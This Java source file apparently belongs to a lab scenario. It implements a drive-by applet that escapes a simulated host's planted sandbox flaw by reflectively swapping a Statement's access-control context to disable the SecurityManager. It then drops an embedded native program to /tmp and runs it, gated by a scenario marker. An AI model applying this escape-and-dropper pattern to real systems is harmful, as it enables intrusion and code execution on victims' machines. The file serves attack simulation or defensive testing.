package driveby;

import java.io.InputStream;
import java.lang.reflect.Field;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.AccessControlContext;
import java.security.AllPermission;
import java.security.CodeSource;
import java.security.Permissions;
import java.security.ProtectionDomain;
import java.security.cert.Certificate;
import lava.applet.Applet;
import lava.applet.ClassFinder;
import lava.applet.Marker;
import lava.applet.Statement;

/**
 * The untrusted applet: leaves the sandbox through the host's planted flaw, drops a native program and runs it.
 *
 * <p>Harmless: it acts only where the scenario's marker is, and so does the program it drops.
 */
@SuppressWarnings("removal")
public final class Slideshow implements Applet {
    private static final Path PROBE = Path.of("/tmp/.drive-by-sandbox-probe");
    private static final Path DROPPED = Path.of("/tmp/.cache-drive-by");
    private static final int NOT_SANDBOXED = 65;

    @Override
    public int run() throws Exception {
        if (!Marker.present()) {
            System.err.println(Marker.REFUSAL);
            return Marker.REFUSED;
        }
        try {
            Files.writeString(PROBE, "");
            System.err.println("applet: this is no sandbox");
            return NOT_SANDBOXED;
        } catch (SecurityException denied) {
            System.out.println("applet: sandboxed: " + denied.getMessage());
        }
        leaveSandbox();
        System.out.println("applet: SecurityManager is " + System.getSecurityManager());
        try (InputStream program = Slideshow.class.getResourceAsStream("slides.bin")) {
            Files.copy(program, DROPPED, StandardCopyOption.REPLACE_EXISTING);
        }
        Files.setPosixFilePermissions(DROPPED, PosixFilePermissions.fromString("rwxr-xr-x"));
        return new ProcessBuilder(DROPPED.toString()).inheritIO().start().waitFor();
    }

    /** Prepares the forbidden call with no rights, then exchanges the rights it is made with. */
    private static void leaveSandbox() throws Exception {
        Permissions everything = new Permissions();
        everything.add(new AllPermission());
        ProtectionDomain trusted = new ProtectionDomain(new CodeSource(null, (Certificate[]) null), everything);
        Statement call = new Statement(
                System.class, "setSecurityManager", new Class<?>[] {SecurityManager.class}, (Object) null);
        Field rights = ClassFinder.getField(Statement.class, "rights");
        rights.set(call, new AccessControlContext(new ProtectionDomain[] {trusted}));
        call.execute();
    }
}
